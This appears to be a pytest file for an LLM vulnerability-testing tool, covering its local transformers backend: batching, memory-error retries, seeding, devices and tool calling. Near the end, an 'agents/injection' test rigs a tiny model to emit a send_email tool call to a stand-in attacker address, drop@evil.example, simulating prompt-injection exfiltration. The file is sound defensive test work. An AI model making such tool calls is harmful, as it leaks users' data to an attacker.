"""The transformers backend on tiny models and a tokenizer built offline inside the test (no hub)."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from lvegit.lve.prompt import Message, Role
from lvegit.lve.repo import Repository
from lvegit.models import transformers_backend
from lvegit.models.routing import ModelPool
from lvegit.models.transformers_backend import LocalWeights, TransformersModel
from lvegit.run.rerun import plan_reruns
from lvegit.run.runner import Runner

from builders import RepoBuilder, instance, word_tokenizer

transformers = pytest.importorskip("transformers")
torch = pytest.importorskip("torch")

WORDS = [
    "compute",
    "what",
    "is",
    "one",
    "two",
    "three",
    "four",
    "yes",
    "no",
    "maybe",
    "user:",
    "assistant:",
    "system:",
    "+",
    "?",
    ".",
]
CHAT_TEMPLATE = (
    "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
    "{% if add_generation_prompt %}assistant:{% endif %}"
)


def save_tiny_model(folder: Path, architecture: str) -> Path:
    """A random causal LM of `architecture` (GPT-2's learned positions or Llama's rotary ones, which
    left padding must not disturb) with the word tokenizer, saved to `folder`."""
    fast = word_tokenizer(WORDS, pad_token="<pad>", unk_token="<unk>", eos_token="<eos>")
    fast.chat_template = CHAT_TEMPLATE
    fast.save_pretrained(folder)
    torch.manual_seed(0)
    special = {"eos_token_id": 2, "bos_token_id": 2, "pad_token_id": 0}
    if architecture == "gpt2":
        config: Any = transformers.GPT2Config(
            vocab_size=len(fast), n_positions=128, n_embd=16, n_layer=1, n_head=2, **special
        )
    else:
        config = transformers.LlamaConfig(
            vocab_size=len(fast),
            hidden_size=16,
            intermediate_size=32,
            num_hidden_layers=2,
            num_attention_heads=2,
            num_key_value_heads=1,
            max_position_embeddings=128,
            **special,
        )
    transformers.AutoModelForCausalLM.from_config(config).save_pretrained(folder)
    return folder


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return save_tiny_model(tmp_path_factory.mktemp("tiny-gpt2"), "gpt2")


@pytest.fixture(scope="module", params=["gpt2", "llama"])
def any_tiny_model(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return save_tiny_model(tmp_path_factory.mktemp(f"tiny-{request.param}"), request.param)


def direct_generation(folder: Path, prompt: str, max_new_tokens: int) -> str:
    tokenizer = transformers.AutoTokenizer.from_pretrained(folder)
    model = transformers.AutoModelForCausalLM.from_pretrained(folder)
    inputs = tokenizer(prompt, return_tensors="pt")
    output = model.generate(**inputs, max_new_tokens=max_new_tokens, do_sample=False, pad_token_id=0)
    return str(tokenizer.decode(output[0][inputs["input_ids"].shape[1] :], skip_special_tokens=True))


def test_record_and_run_with_a_local_model(
    repo: RepoBuilder, cli: Any, tiny_model: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    loads = []
    original = transformers.AutoModelForCausalLM.from_pretrained
    monkeypatch.setattr(
        transformers.AutoModelForCausalLM,
        "from_pretrained",
        lambda *args, **kwargs: loads.append(args[0]) or original(*args, **kwargs),
    )
    (repo.root / "lvegit.toml").write_text(
        f'[models."local/tiny"]\nbackend = "transformers"\nmodel = "{tiny_model}"\ndevice = "cpu"\n'
    )
    test = {
        "model": "local/tiny",
        "prompt": [{"role": "system", "content": "yes or no ."}, {"content": "what is {a} + {b} ?"}],
        "checker_args": {"checker_name": "LambdaChecker", "func": "lambda r, a, b: 'four' not in r"},
        "default_model_args": {"temperature": 0.0, "max_tokens": 6},
    }
    lve_dir = repo.lve("dummy/local", test, folder="local--tiny")
    recorded = cli(
        "record",
        str(lve_dir),
        "--param",
        "a=one",
        "--param",
        "b=three",
        "--device",
        "cpu",
        "--format",
        "json",
        cwd=repo.root,
    )
    assert recorded.code == 0, recorded.out
    response = recorded.json()["attempt"]["response"]
    expected = direct_generation(
        tiny_model, "system: yes or no .\nuser: what is one + three ?\nassistant:", 6
    )
    assert response == expected and response.strip()
    assert recorded.json()["attempt"]["backend"] == "transformers"

    rows = [json.loads(x) for x in (lve_dir / "instances/instances.jsonl").read_text().splitlines()]
    assert (rows[0]["run_info"]["device"], rows[0]["run_info"]["dtype"]) == ("cpu", "float32")
    assert f"local model {tiny_model} on cpu in float32" in recorded.err
    rows += [
        instance(response, "four" not in response, a="two", b="two"),
        instance("x", True, a="one", b="one"),
    ]
    (lve_dir / "instances/instances.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    data = cli("run", str(lve_dir), "--format", "json", cwd=repo.root).json()
    assert data["summary"]["error"] == 0 and data["summary"]["attempts"] == 3
    assert data["instances"][0]["agree"] is True  # greedy decoding reproduces the recording
    # One load by lvegit per command, record and run (the other is this test's direct generation).
    assert loads == [str(tiny_model), tiny_model, str(tiny_model)]


def test_unloadable_model_is_a_clear_error(repo: RepoBuilder, cli: Any, tmp_path: Path) -> None:
    (repo.root / "lvegit.toml").write_text(
        f'[models."local/none"]\nbackend = "transformers"\nmodel = "{tmp_path}"\n'
    )
    lve_dir = repo.lve(
        "dummy/none",
        {"model": "local/none"},
        folder="local--none",
        instances={"i.jsonl": [instance("3", True, a=1, b=2)]},
    )
    data = cli("run", str(lve_dir), "--format", "json", cwd=repo.root).json()
    [error] = data["instances"][0]["errors"]
    assert error.startswith(f"cannot load transformers model '{tmp_path}'")


PROMPTS = [
    "what is one + two ?",
    "yes",
    "compute three + four + one + two + three ?",
    "no . maybe . what is four ?",
]


def conversation(text: str) -> list[Message]:
    return [Message("answer .", Role.system), Message(text, Role.user)]


def complete_together(model: TransformersModel, texts: list[str], args: dict[str, Any]) -> list[str]:
    async def together() -> list[str]:
        try:
            completions = await asyncio.gather(*(model.complete(conversation(t), args) for t in texts))
        finally:
            await model.close()
        return [completion.text for completion in completions]

    return asyncio.run(together())


@pytest.mark.parametrize(
    "device",
    ["cpu", pytest.param("cuda", marks=pytest.mark.skipif(not torch.cuda.is_available(), reason="no GPU"))],
)
def test_greedy_batched_outputs_equal_one_by_one_generation(any_tiny_model: Path, device: str) -> None:
    args = {"temperature": 0, "max_tokens": 8}
    # float32: in half precision a GPU may sum in another order for another batch shape (see README).
    model = TransformersModel(str(any_tiny_model), device, "float32", batch_size=8)
    texts = complete_together(model, PROMPTS, args)
    assert model.batcher.sizes == [len(PROMPTS)]  # one left-padded batch of prompts of different lengths
    one_by_one = [
        complete_together(TransformersModel(str(any_tiny_model), device, "float32", 1), [prompt], args)[0]
        for prompt in PROMPTS
    ]
    assert texts == one_by_one and all(texts)
    if device == "cpu":  # and the backend generates what transformers does without lvegit
        direct = [
            direct_generation(any_tiny_model, f"system: answer .\nuser: {prompt}\nassistant:", 8)
            for prompt in PROMPTS
        ]
        assert texts == direct


def test_an_out_of_memory_batch_is_split_and_retried(
    tiny_model: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    weights = LocalWeights(str(tiny_model))
    loaded = weights.get()
    generate = loaded.model.generate

    def fits_two_rows(**kwargs: Any) -> Any:
        if kwargs["input_ids"].shape[0] > 2:
            raise torch.OutOfMemoryError("CUDA out of memory (simulated)")
        return generate(**kwargs)

    monkeypatch.setattr(loaded.model, "generate", fits_two_rows)
    model = TransformersModel(str(tiny_model), batch_size=8, weights=weights)
    texts = complete_together(model, [*PROMPTS, "one"], {"max_tokens": 5})
    assert model.batcher.sizes == [5, 2, 3, 1, 2]
    monkeypatch.setattr(loaded.model, "generate", generate)
    assert texts == complete_together(
        TransformersModel(str(tiny_model), batch_size=1, weights=weights),
        [*PROMPTS, "one"],
        {"max_tokens": 5},
    )


def test_out_of_memory_for_one_request_alone_is_a_model_error(
    tiny_model: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    weights = LocalWeights(str(tiny_model))

    def never_fits(**_kwargs: Any) -> Any:
        raise torch.OutOfMemoryError("CUDA out of memory (simulated)")

    monkeypatch.setattr(weights.get().model, "generate", never_fits)
    with pytest.raises(transformers_backend.ModelError, match=r"out of memory generating with .* even alone"):
        complete_together(TransformersModel(str(tiny_model), weights=weights), ["one"], {})


def test_a_seeded_sample_is_the_same_alone_or_among_others_and_leaves_the_global_seed(
    tiny_model: Path,
) -> None:
    seeded = {"temperature": 1.5, "max_tokens": 10, "seed": 7}
    state = torch.get_rng_state()
    alone = complete_together(TransformersModel(str(tiny_model)), ["one"], seeded)
    model = TransformersModel(str(tiny_model))
    among = complete_together(model, ["one", "two", "one", "three"], seeded)
    assert among[0] == among[2] == alone[0]
    assert model.batcher.sizes == [1, 1, 1, 1]  # seeded sampling runs alone
    assert torch.equal(torch.get_rng_state(), state)
    # Different seeds sample differently (the seed is used at all).
    others = [
        complete_together(TransformersModel(str(tiny_model)), ["one"], {**seeded, "seed": s})[0]
        for s in range(5)
    ]
    assert len(set(others)) > 1


def test_a_run_keeps_a_full_batch_in_flight_per_local_model(repo: RepoBuilder, tiny_model: Path) -> None:
    (repo.root / "lvegit.toml").write_text(
        f'[models."local/tiny"]\nbackend = "transformers"\nmodel = "{tiny_model}"\nbatch_size = 3\n'
    )
    test = {
        "model": "local/tiny",
        "prompt": [
            {"content": "what is {a} ?"},
            {"role": "assistant", "content": None},
            {"content": "yes ?"},
        ],
        "checker_args": {"checker_name": "LambdaChecker", "func": "lambda r, a: True"},
        "default_model_args": {"temperature": 0.0, "max_tokens": 3},
    }
    rows = [
        instance(["x", "y"], True, a=word) for word in ("one", "two", "three", "four", "yes", "no", "maybe")
    ]
    lve_dir = repo.lve("dummy/batched", test, folder="local--tiny", instances={"i.jsonl": rows})
    pool = ModelPool(repo.root)
    _route, model = pool.get("local/tiny")
    attempts = Runner(pool).run(plan_reruns(Repository.discover(repo.root), [lve_dir], None, 1, False).tasks)
    assert [a.status for a in attempts] == ["complete"] * 7 and all(a.requests == 2 for a in attempts)
    # Two steps per conversation (the hole, then the last answer), in batches of 3 while 3 are in flight.
    assert isinstance(model, TransformersModel) and sum(model.batcher.sizes) == 14
    assert max(model.batcher.sizes) == 3 and model.batcher.sizes.count(3) >= 3


def test_device_and_dtype_options(repo: RepoBuilder, cli: Any, tiny_model: Path) -> None:
    (repo.root / "lvegit.toml").write_text(
        f'[models."local/tiny"]\nbackend = "transformers"\nmodel = "{tiny_model}"\ndevice = "cuda"\n'
    )
    lve_dir = repo.lve(
        "dummy/device",
        {
            "model": "local/tiny",
            "checker_args": {"checker_name": "LambdaChecker", "func": "lambda r, a, b: True"},
            "default_model_args": {"max_tokens": 4},
        },
        folder="local--tiny",
        instances={"i.jsonl": [instance("3", True, a=1, b=2)]},
    )
    if not torch.cuda.is_available():
        data = cli("run", str(lve_dir), "--format", "json", cwd=repo.root).json()
        assert "device cuda: torch" in data["instances"][0]["errors"][0]
    data = cli(
        "run", str(lve_dir), "--device", "cpu", "--dtype", "bfloat16", "--format", "json", cwd=repo.root
    )
    assert data.json()["summary"]["agree"] == 1, data.out
    assert f"local model {tiny_model} on cpu in bfloat16" in data.err
    wrong = cli("run", str(lve_dir), "--device", "gpu", cwd=repo.root)
    assert wrong.code == 2 and "device 'gpu' is not one of auto, cuda, mps, cpu or cuda:N" in wrong.err


def test_routes_to_one_local_model_share_its_weights(repo: RepoBuilder, tiny_model: Path) -> None:
    (repo.root / "lvegit.toml").write_text(
        f'[models."local/a"]\nbackend = "transformers"\nmodel = "{tiny_model}"\nbatch_size = 2\n'
        f'[models."local/b"]\nbackend = "transformers"\nmodel = "{tiny_model}"\nbatch_size = 4\n'
        f'[models."local/c"]\nbackend = "transformers"\nmodel = "{tiny_model}"\ndtype = "float32"\n'
    )
    pool = ModelPool(repo.root)
    (_, a), (_, b), (_, c) = (pool.get(name) for name in ("local/a", "local/b", "local/c"))
    assert isinstance(a, TransformersModel) and isinstance(b, TransformersModel)
    assert isinstance(c, TransformersModel)
    assert a is not b and a.weights is b.weights  # two batch sizes, one copy of the model
    assert c.weights is not a.weights  # another precision is another copy
    assert (a.concurrency, b.concurrency) == (2, 4)


# A chat template with tool use, in the Hermes style: the tools offered are listed, a call is written as a
# <tool_call> block; the generation prompt says whether a tool has just answered.
TOOL_TEMPLATE = (  # words apart by spaces: the template renderer trims a newline after a block tag
    "{% if tools %}tools: {% for tool in tools %}{{ tool.function.name }} {% endfor %}{% endif %}"
    "{% for message in messages %} {{ message.role }}: "
    "{% if message.tool_calls %}{% for call in message.tool_calls %}<tool_call> "
    "{{ call.function | tojson }} </tool_call>{% endfor %}{% else %}{{ message.content }}{% endif %}"
    "{% endfor %}"
    "{% if add_generation_prompt %} {% if messages[-1].role == 'tool' %}answer:{% else %}act:{% endif %}"
    "{% endif %}"
)
# Greedy decoding after `act:` writes one send_email call; after a tool's answer, `done`.
TOOL_CALL_WORDS = [
    '{"name":',
    '"send_email",',
    '"arguments":',
    '{"to":',
    '"drop@evil.example"}}',
]
CALLING = dict(
    zip(
        ["act:", "<tool_call>", *TOOL_CALL_WORDS],
        ["<tool_call>", *TOOL_CALL_WORDS, "</tool_call>"],
        strict=True,
    )
)


def test_a_local_model_calls_tools_through_its_chat_template(
    repo: RepoBuilder, cli: Any, tmp_path: Path
) -> None:
    from builders import TOOL_TEST, guard_model

    words = ["act:", "answer:", "done", "<tool_call>", "</tool_call>", *TOOL_CALL_WORDS]
    model = guard_model(tmp_path / "agent", words, {**CALLING, "answer:": "done"}, TOOL_TEMPLATE)
    (repo.root / "lvegit.toml").write_text(
        f'[models."local/agent"]\nbackend = "transformers"\nmodel = "{model}"\ndevice = "cpu"\n'
    )
    test = {**TOOL_TEST, "model": "local/agent", "default_model_args": {"max_tokens": 12}}
    lve_dir = repo.lve("agents/injection", test, folder="local--agent")
    args = ("--param", "user=Ann", "--param", "dish=bread", "--format", "json")
    recorded = cli("record", str(lve_dir), *args, cwd=repo.root)
    assert recorded.code == 0, recorded.out
    attempt = recorded.json()["attempt"]
    assert (attempt["verdict"], attempt["requests"]) == (False, 2)
    arguments = json.dumps({"to": "drop@evil.example"})
    assert attempt["response"] == {
        "steps": [
            {
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1_1",
                        "name": "send_email",
                        "arguments": arguments,
                        "result": "sent to drop@evil.example",
                    }
                ],
            },
            {"content": "done"},
        ]
    }
    assert cli("replay", str(lve_dir), cwd=repo.root).code == 0
    rerun = cli("run", str(lve_dir), "--format", "json", cwd=repo.root)
    assert rerun.json()["instances"][0]["agree"] is True  # greedy decoding takes the same steps


def test_a_chat_template_without_tools_is_a_clear_error(
    repo: RepoBuilder, cli: Any, tiny_model: Path
) -> None:
    from builders import TOOL_TEST

    (repo.root / "lvegit.toml").write_text(
        f'[models."local/tiny"]\nbackend = "transformers"\nmodel = "{tiny_model}"\ndevice = "cpu"\n'
    )
    lve_dir = repo.lve("agents/injection", {**TOOL_TEST, "model": "local/tiny"}, folder="local--tiny")
    result = cli("record", str(lve_dir), "--param", "user=Ann", "--param", "dish=bread", cwd=repo.root)
    assert result.code == 4, result.out
    assert "the model's chat template takes no tools" in result.err
